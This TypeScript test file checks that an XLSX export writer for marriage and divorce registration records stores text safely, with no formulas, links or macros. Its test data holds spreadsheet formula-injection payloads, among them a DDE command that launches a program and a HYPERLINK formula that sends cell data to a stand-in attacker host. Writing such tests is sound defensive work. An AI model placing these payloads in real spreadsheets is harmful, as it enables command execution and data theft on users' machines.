import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { plainDate } from '#core/domain/dates/plain-date.ts';
import { formatOf, readCells, unzip } from './testing/read-xlsx.ts';
import { writeXlsx, type XlsxCell } from './xlsx.ts';

const text = (value: string): XlsxCell => ({ kind: 'text', text: value });

async function written(values: readonly XlsxCell[]) {
  const columns = [{ title: '内容', width: 20 }];
  const files = unzip(await writeXlsx([{ name: '结婚登记类', columns, rows: values.map((value) => [value]) }]));
  const cells = readCells(files, 1);
  return { files, cells, at: (row: number) => cells.get(`A${row + 2}`) };
}

/** Whether any part of the workbook holds a formula, a link, code or something to fetch. */
const dangerous = (files: ReadonlyMap<string, string>) =>
  [...files].filter(([name, xml]) =>
    /<f[\s>]|hyperlink|externalLink|oleObject|vbaProject|ddeLink|TargetMode="External"/u.test(name + xml),
  );

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+cmd|calc',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\ufeff=1+1',
  "'=1+1",
  '"=1+1',
  '＝1+1',
  '＋1+1',
  '－2+3',
  '＠SUM(A1)',
  '{=1+1}',
  '%0A=1+1',
];

describe('text cells', () => {
  it.each(formulas)('never are formulas: %j', async (value) => {
    const { files, at } = await written([text(value)]);
    expect(at(0)).toMatchObject({ type: 's', value });
    expect(dangerous(files)).toEqual([]);
  });

  it('keep every digit, leading zeros, quotes, commas and line ends', async () => {
    const values = [
      '11010519491231002X',
      '500103199001011234',
      '000123',
      '1e5',
      '12345678901234567890',
      '甲,"乙"\n丙',
      'true',
      '2026-03-02',
    ];
    const { files, at } = await written(values.map(text));
    for (const [row, value] of values.entries()) {
      expect(at(row)).toMatchObject({ type: 's', value });
      expect(formatOf(files, at(row)?.style ?? 0)).toMatch(/^(?:@|49)$/u);
    }
  });

  it('come back to the letter, whatever they hold', async () => {
    const hard = [
      '<b>&amp;</b>',
      ']]>',
      '_x0041_',
      '_x005F_x0041_',
      '\0\x01\x0b\x1f\x7f\x85\u2028',
      '\r\n\r',
      '\ud800',
      'a\udc00b',
      '\ufffd\uffff\ufdd0',
      '\u{10ffff}x\u{1fffe}',
      '𠮷·\u202e·阿依古丽',
      ' 前后 ',
      '\t',
      ' ',
      ...['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'],
    ];
    const { files, at } = await written(hard.map(text));
    expect(hard.map((_, row) => at(row)?.value)).toEqual(hard);
    expect([...files.values()].join('')).not.toMatch(/native code/u);
  });

  it('come back to the letter, whatever anybody types', async () => {
    const anything = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 40 }),
      fc.string({ unit: 'grapheme', maxLength: 40 }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(anything, { minLength: 1, maxLength: 40 }), async (values) => {
        const { files, at } = await written(values.map(text));
        expect(values.map((_, row) => at(row)?.value ?? '')).toEqual(values);
        expect(dangerous(files)).toEqual([]);
      }),
      { numRuns: 60 },
    );
  });

  it('are refused where a cell cannot hold them', async () => {
    await expect(written([text('长'.repeat(32_768))])).rejects.toThrow('INVALID');
    const { at } = await written([text('长'.repeat(32_767))]);
    expect(at(0)?.value).toHaveLength(32_767);
  });
});

describe('dates and numbers', () => {
  it('are real dates, in the form of the office', async () => {
    const days = ['1900-03-01', '1949-10-01', '1988-04-17', '2000-02-29', '2026-11-23', '2126-12-31'];
    const { files, at } = await written(days.map((day) => ({ kind: 'date', date: plainDate(day) })));
    for (const [row, day] of days.entries()) {
      const cell = at(row);
      expect(cell?.type).toBeUndefined();
      // Serial 61 is 1 March 1900; every day after it is one more.
      expect(Number(cell?.value)).toBe(61 + (Date.parse(day) - Date.parse('1900-03-01')) / 86_400_000);
      expect(formatOf(files, cell?.style ?? 0)).toBe('yyyy"年"m"月"d"日"');
    }
  });

  it('are written as words where spreadsheet programs do not agree on the day', async () => {
    const { at } = await written([{ kind: 'date', date: plainDate('1900-02-28') }]);
    expect(at(0)).toMatchObject({ type: 's', value: '1900年2月28日' });
  });

  it('are numbers or refused', async () => {
    const { at } = await written([{ kind: 'number', value: 300 }, undefined]);
    expect(at(0)).toMatchObject({ type: undefined, value: '300' });
    expect(at(1)).toBeUndefined();
    await expect(written([{ kind: 'number', value: Number.NaN }])).rejects.toThrow('INVALID');
  });
});

describe('sheets', () => {
  it('have names, widths, and a header that is bold and stays', async () => {
    const columns = [
      { title: '男方姓名', width: 18 },
      { title: '=页数', width: 7 },
    ];
    const rows = [[text('甲'), { kind: 'number', value: 3 } as const]];
    const files = unzip(
      await writeXlsx([
        { name: '结婚登记类', columns, rows },
        { name: '离婚登记类', columns, rows: [] },
      ]),
    );
    const workbook = files.get('xl/workbook.xml') ?? '';
    expect([...workbook.matchAll(/<sheet [^>]*name="([^"]*)"/gu)].map((match) => match[1])).toEqual([
      '结婚登记类',
      '离婚登记类',
    ]);
    const sheet = files.get('xl/worksheets/sheet1.xml') ?? '';
    expect(sheet).toMatch(/<pane [^>]*ySplit="1"[^>]*state="frozen"/u);
    expect([...sheet.matchAll(/<col [^>]*width="([\d.]+)"/gu)].map((match) => Number(match[1]))).toEqual([18, 7]);
    const header = readCells(files, 1).get('B1');
    expect(header).toMatchObject({ type: 's', value: '=页数' });
    const styles = files.get('xl/styles.xml') ?? '';
    const fonts = [...(/<cellXfs[^>]*>([\s\S]*?)<\/cellXfs>/u.exec(styles)?.[1] ?? '').matchAll(/fontId="(\d+)"/gu)];
    const fontId = Number(fonts[header?.style ?? 0]?.[1]);
    expect([...styles.matchAll(/<font>([\s\S]*?)<\/font>/gu)][fontId]?.[1]).toContain('<b/>');
    expect(readCells(files, 2).size).toBe(2);
    expect(dangerous(files)).toEqual([]);
  });
});
